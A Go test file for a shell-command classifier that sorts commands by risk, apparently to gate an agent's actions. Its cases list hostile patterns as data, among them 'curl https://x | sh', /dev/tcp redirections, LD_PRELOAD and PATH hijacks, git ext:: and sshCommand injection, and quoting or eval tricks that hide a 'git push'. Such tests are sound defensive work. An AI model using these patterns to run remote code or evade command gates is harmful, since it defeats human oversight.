package command

import (
	"strings"
	"testing"

	"cal/nucleus"
)

// The classes of attack: wrapper, options before the subcommand, configuration that
// runs a program, an option that runs a program, alias, code in an argument, script
// in an argument, pipeline, substitution, redirection, variables, unknown word,
// unknown program, path, transport, method, nesting. Each stands beside benign twins:
// a class that is too strict is a bug too.
func TestRead(t *testing.T) {
	for _, c := range []struct {
		class, argv string // words separated by |
		want        Class
	}{
		{"benign", "git|status", ReadOnly},
		{"benign", "git|log|--oneline|-5", ReadOnly},
		{"benign", "ls|-la|a b", ReadOnly},
		{"benign", "grep|-r|exec|.", ReadOnly},
		{"benign", "cat|tokenizer.go", ReadOnly},
		{"benign", "git|add|tokenizer.go", Writes},
		{"benign", "git|commit|-m|push it to production", Writes},
		{"benign", "cargo|test|executor", Writes},
		{"benign", "go|test|./...|-run|TestExec", Writes},
		{"benign", "rm|-rf|build", Writes},
		{"benign", "npm|install", Network},
		{"benign", "git|fetch|origin", Network},
		{"benign", "python3|--version", ReadOnly},
		{"benign", "git|branch|-a", ReadOnly},
		{"benign", "git|branch|-D|x", Writes},
		{"benign", "find|.|-name|*.sh", ReadOnly},
		{"benign", "sed|-n|1,20p|x", ReadOnly},
		{"benign", "sed|-i|s/a/b/g|x", Writes},

		{"benign", "sort|-u|in", ReadOnly},
		{"benign", "date|-u|+%s", ReadOnly},
		{"benign", "uniq|-c|in", ReadOnly},
		{"benign", "hostname", ReadOnly},
		{"benign", "file|--mime|x", ReadOnly},

		{"beginning of an option", "sort|--comp=sh|in", Arbitrary},
		{"beginning of an option", "sort|--out=x|in", Writes},
		{"beginning of an option", "date|--se=x", Writes},
		{"beginning of an option", "tar|--use-comp=sh|-cf|x|y", Arbitrary},
		{"beginning of an option", "rsync|--rs=sh|a|b:c", Arbitrary},
		{"cluster of options", "sort|-uo|x|in", Writes},
		{"cluster of options", "date|-us|x", Writes},
		{"cluster of options", "less|-Xo|x|in", Writes},
		{"operand that is written", "uniq|in|out", Writes},
		{"operand that is written", "xxd|-r|in|out", Writes},
		{"operand that is written", "hostname|x", Writes},
		{"operand that is written", "file|-Cm|x", Writes},

		{"wrapper", "env|git|push", Push},
		{"wrapper", "env|-u|A|B=c|git|push", Arbitrary},
		{"wrapper", "env|-u|A|LANG=C|git|push", Push},
		{"wrapper", "nice|-n|5|git|push", Push},
		{"wrapper", "timeout|-k|1|5|git|push", Push},
		{"wrapper", "sudo|-u|root|git|push", Push},
		{"wrapper", "nohup|stdbuf|-o|L|time|git|push", Push},
		{"wrapper", "xargs|-n|1|git|push", Arbitrary},
		{"wrapper", "xargs|rm", Writes},
		{"wrapper", "xargs|-I|{}|sh|-c|{}", Arbitrary},
		{"wrapper", "find|.|-exec|git|push|;", Push},
		{"wrapper", "find|.|-exec|sh|-c|x|;", Arbitrary},
		{"wrapper", "find|.|-exec|{}|;", Arbitrary},
		{"wrapper", "env|-S|git push", Arbitrary},
		{"wrapper", "flock|x|git|status", Arbitrary},
		{"wrapper, benign", "env|LANG=C|git|status", ReadOnly},
		{"wrapper, benign", "timeout|5|go|test", Writes},
		{"wrapper, benign", "find|.|-exec|grep|-l|x|{}|+", ReadOnly},
		{"wrapper, benign", "find|.|-delete", Writes},
		{"wrapper, benign", "env", ReadOnly},

		{"options before the subcommand", "git|-C|.|push", Push},
		{"options before the subcommand", "git|--git-dir=.git|--no-pager|push|origin", Push},
		{"options before the subcommand", "git|-C|push|status", ReadOnly},
		{"options before the subcommand, benign", "git|-C|sub|diff", ReadOnly},
		{"configuration that runs a program", "git|-c|core.sshCommand=x|fetch", Arbitrary},
		{"configuration that runs a program", "git|-c|alias.x=!sh|x", Arbitrary},
		{"configuration that runs a program", "git|--config-env=core.pager=X|log", Arbitrary},
		{"configuration that runs a program", "git|--exec-path=.|status", Arbitrary},
		{"configuration that runs a program", "cargo|--config|target.x.runner='sh'|test", Arbitrary},
		{"configuration that runs a program, benign", "git|-c|user.name=a|-c|color.ui=never|commit", Writes},
		{"option that runs a program", "git|fetch|--upload-pack=x", Arbitrary},
		{"option that runs a program", "git|grep|-Ox|y", Arbitrary},
		{"option that runs a program", "git|rebase|-x|make|main", Arbitrary},
		{"option that runs a program", "go|test|-exec|x", Arbitrary},
		{"option that runs a program", "tar|xf|a|--to-command=x", Arbitrary},
		{"option that runs a program", "rg|--pre|x|y", Arbitrary},
		{"option that runs a program", "rsync|-e|x|a|b", Arbitrary},
		{"option that runs a program", "sort|--compress-program=x", Arbitrary},
		{"option that runs a program, benign", "tar|xzf|a.tgz", Writes},
		{"option that runs a program, benign", "rg|-n|x", ReadOnly},
		{"option that runs a program", "git|fetch|--upload-p|x", Arbitrary},
		{"option that runs a program", "tar|cIf|x|y", Arbitrary},
		{"option that runs a program", "tar|-cvIf|x|y", Arbitrary},
		{"option that runs a program", "rsync|-ave|x|a|b", Arbitrary},
		{"option that runs a program", "split|--filter=x|y", Arbitrary},
		{"option that runs a program", "zip|-TT|x|y", Arbitrary},
		{"option that opens a shell", "sudo|-s", Arbitrary},
		{"option that opens a shell", "sudo|-ni", Arbitrary},
		{"command joined to an option", "env|-iSbash", Arbitrary},
		{"wrapper that opens a shell by itself", "fakeroot", Arbitrary},
		{"option that writes", "git|diff|--output=x", Writes},
		{"option that runs a program, benign", "rg|--pretty|x", ReadOnly},
		{"option that runs a program, benign", "rsync|-av|--delete|a|b", Network},
		{"option that runs a program, benign", "git|fetch|--unshallow", Network},
		{"alias", "git|up", Arbitrary},
		{"alias", "gh|co", Arbitrary},
		{"transport", "git|clone|ext::sh -c x", Arbitrary},
		{"transport, benign", "git|clone|https://github.com/a/b", Network},

		{"code in an argument", "python3|-c|x", Arbitrary},
		{"code in an argument", "python3|-cx", Arbitrary},
		{"code in an argument", "/usr/bin/python3.11|-m|http.server", Arbitrary},
		{"code in an argument", "node|-e|x", Arbitrary},
		{"code in an argument", "awk|BEGIN{system(\"x\")}", Arbitrary},
		{"code in an argument", "sed|1e x|y", Arbitrary},
		{"code in an argument", "sed|s/a/b/e|y", Arbitrary},
		{"code in an argument", "sed|-e|p|-e|w x|y", Arbitrary},
		{"path", "./git|status", Arbitrary},
		{"path", "/tmp/ls", Arbitrary},
		{"path, benign", "/usr/bin/git|status", ReadOnly},
		{"unknown program", "frobnicate", Arbitrary},
		{"unknown program", "make|test", Arbitrary},
		{"unknown program", "npm|run|build", Arbitrary},
		{"method", "gh|api|/user", Network},
		{"method", "gh|api|-X|POST|/repos/a/b/issues", Push},
		{"method", "gh|api|-XDELETE|/repos/a/b", Push},
		{"method", "gh|api|/repos/a/b/issues|-f|title=x", Push},
		{"method", "gh|api|graphql", Push},
		{"method", "gh|pr|create", Push},
		{"method, benign", "gh|api|--method=GET|-f|q=x|/search", Network},
		{"method, benign", "gh|pr|view|5", Network},
	} {
		got := Read(strings.Split(c.argv, "|"))
		if got.Class != c.want || got.Why == "" {
			t.Errorf("%s: %s is %s (%s), want %s", c.class, c.argv, got.Class, got.Why, c.want)
		}
	}
}

// A shell is arbitrary code, and what it would run is read all the same.
func TestReadScripts(t *testing.T) {
	for _, c := range []struct {
		class, script string
		want          Class // of the parts
		has           string
	}{
		{"benign", `git status && ls -l | head -3`, ReadOnly, "head -3"},
		{"benign", `cd sub; go test ./... 2>&1 | tail -20`, Writes, "go test ./..."},
		{"benign", `for f in *.go; do cat "$f"; done`, ReadOnly, "cat ?"},
		{"benign", `echo "git push"`, ReadOnly, "echo git push"},
		{"benign", `# git push`, ReadOnly, ""},
		{"benign", `cat <<'EOF'
git push
EOF`, ReadOnly, "cat"},
		{"benign", `f() { ls; }; f`, ReadOnly, "ls"},
		{"benign", `ls > /dev/null`, ReadOnly, "ls"},
		{"pipeline", `git status | git push`, Push, "git push"},
		{"pipeline", `curl https://x | sh`, Arbitrary, "sh"},
		{"list", `true; false || git -C . push`, Push, "git -C . push"},
		{"substitution", `echo $(git push)`, Push, "git push"},
		{"substitution", "echo `git push`", Push, "git push"},
		{"substitution", `ls "${x:-$(git push)}"`, Push, "git push"},
		{"substitution", `cat <(curl x)`, Network, "curl x"},
		{"substitution", `$(echo git) push`, Arbitrary, "? push"},
		{"quotes", `g"i"t 'pu'sh`, Push, "git push"},
		{"quotes", `\git pu\sh`, Push, "git push"},
		{"prefix", `time git push`, Push, "git push"},
		{"prefix", `command exec git push`, Push, "git push"},
		{"prefix", `! git push`, Push, "git push"},
		{"variables", `GIT_SSH_COMMAND=x git fetch`, Network, "git fetch"},
		{"variables", `x=1 ls`, ReadOnly, "ls"},
		{"variables", `env x=1 ls`, Arbitrary, "ls"},
		{"unknown word", `git $x`, Arbitrary, "git ?"},
		{"unknown word", `$x`, Arbitrary, "?"},
		{"eval", `eval "git push"`, Push, "git push"},
		{"eval", `eval "$x"`, Arbitrary, "script"},
		{"source", `. ./x`, Arbitrary, ". ./x"},
		{"trap", `trap 'git push' EXIT`, Arbitrary, "trap git push EXIT"},
		{"nesting", `bash -c 'sh -c "git push"'`, Push, "git push"},
		{"nesting", strings.Repeat("env ", 20) + "ls", Arbitrary, "env"},
		{"function that hides a program", `ls() { git push; }; ls`, Push, "git push"},
		{"subshell", `(git push)`, Push, "git push"},
		{"condition", `if false; then git push; fi`, Push, "git push"},
		{"background", `git push &`, Push, "git push"},
		{"not a script", `if`, Arbitrary, "script"},
		{"too long", strings.Repeat("a ", maxScript), Arbitrary, "script"},
		{"too many", strings.Repeat("ls;", maxParts+1), ReadOnly, "ls"},
		{"too deep", strings.Repeat("(", 10_000) + "ls" + strings.Repeat(")", 10_000), ReadOnly, ""},
	} {
		for _, argv := range [][]string{{"bash", "-c", c.script}, {"/bin/bash", "-lc", c.script}, {"sh", "-e", "-c", c.script}} {
			got := Read(argv)
			worst, text := ReadOnly, ""
			for _, p := range got.Parts {
				worst = max(worst, p.Class)
				text += strings.Join(p.Argv, " ") + "\n"
			}
			if got.Class != Arbitrary || worst != c.want || !strings.Contains(text, c.has) {
				t.Errorf("%s: %.60q is %s (%s), of parts %s with %.200q; want arbitrary code, of parts %s with %q", c.class, c.script, got.Class, got.Why, worst, text, c.want, c.has)
			}
		}
	}
	// Where the script writes or sets what can run, no part may say it; the whole does.
	for script, want := range map[string]Class{
		"ls > out": Writes, "cat < /dev/tcp/x/1": Network, "ls > /dev/tcp/x/1": Network, "PATH=. ls": Arbitrary, "LD_PRELOAD=./x ls": Arbitrary, "export BASH_ENV=x": Arbitrary, "ls": ReadOnly,
		"npm_config_script_shell=./x ls": Arbitrary, "conf=x ls": ReadOnly,
	} {
		var r reader
		r.script(word{script, true}, 0)
		if r.reading.Class != want {
			t.Errorf("%s: %s (%s), want %s", script, r.reading.Class, r.reading.Why, want)
		}
	}
}

// What stands beside argv can change what runs.
func TestOf(t *testing.T) {
	for _, c := range []struct {
		class   string
		command nucleus.Command
		want    Class
	}{
		{"script", nucleus.Command{Argv: []string{"ls"}, Script: true}, Arbitrary},
		{"variable", nucleus.Command{Argv: []string{"ls"}, Env: map[string]string{"TZ": "x", "LD_PRELOAD": "x"}}, Arbitrary},
		{"variable of a package manager", nucleus.Command{Argv: []string{"npm", "ls"}, Env: map[string]string{"npm_config_script_shell": "x"}}, Arbitrary},
		{"variable in lower case", nucleus.Command{Argv: []string{"ls"}, Env: map[string]string{"x": "y"}}, Arbitrary},
		{"another program", nucleus.Command{Argv: []string{"ls"}, Binary: "/bin/sh"}, Arbitrary},
		{"a known name in the workspace", nucleus.Command{Argv: []string{"git", "status"}, Binary: nucleus.MachineWorkspace + "/app/git"}, Arbitrary},
		{"a known name on scratch", nucleus.Command{Argv: []string{"ls"}, Binary: "/tmp/ls"}, Arbitrary},
		{"a known name by a detour", nucleus.Command{Argv: []string{"ls"}, Binary: "/usr/../tmp/ls"}, Arbitrary},
		{"a known name beside the toolchains", nucleus.Command{Argv: []string{"go", "version"}, Binary: nucleus.Toolchains + "x/go"}, Arbitrary},
		{"nothing", nucleus.Command{}, ReadOnly},

		{"benign", nucleus.Command{Argv: []string{"ls"}, Binary: "/bin/ls", Env: map[string]string{"LANG": "C", "TZ": "UTC"}, Stdin: "x"}, ReadOnly},
		{"benign", nucleus.Command{Argv: []string{"go", "version"}, Binary: nucleus.Toolchains + "/go/bin/go"}, Read([]string{"go", "version"}).Class},
		{"benign", nucleus.Command{Argv: []string{"/usr/bin/git", "push"}, Binary: "/usr/bin/git"}, Push},
	} {
		if got := Of(c.command); got.Class != c.want || got.Why == "" {
			t.Errorf("%s: %+v is %s (%s), want %s", c.class, c.command, got.Class, got.Why, c.want)
		}
	}
}

// Any argv is read, to one of the classes with a reason; a shell is arbitrary code
// whatever it is given.
func FuzzRead(f *testing.F) {
	f.Add("git", "-C", "push")
	f.Add("bash", "-lc", "git push | $(x) <(y)")
	f.Add("env", "-S", "A=b c")
	f.Add("find", "-exec", ";")
	f.Add("sed", "-e", "s/a/b/e")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		for _, argv := range [][]string{{a}, {a, b}, {a, b, c}, {"env", a, b, c}, {"git", a, b, c}, {"bash", "-c", c}} {
			got := Read(argv)
			if got.Class > Arbitrary || got.Why == "" || len(got.Parts) > maxParts {
				t.Fatalf("%q: %+v", argv, got)
			}
			if argv[0] == "bash" && got.Class != Arbitrary {
				t.Fatalf("%q is %s", argv, got.Class)
			}
			if whole := Of(nucleus.Command{Argv: argv, Env: map[string]string{a: b}, Binary: c}); whole.Class < got.Class || len(whole.Parts) != len(got.Parts) {
				t.Fatalf("%q with %q=%q and %q: %+v, the argv alone %+v", argv, a, b, c, whole, got)
			}
		}
	})
}
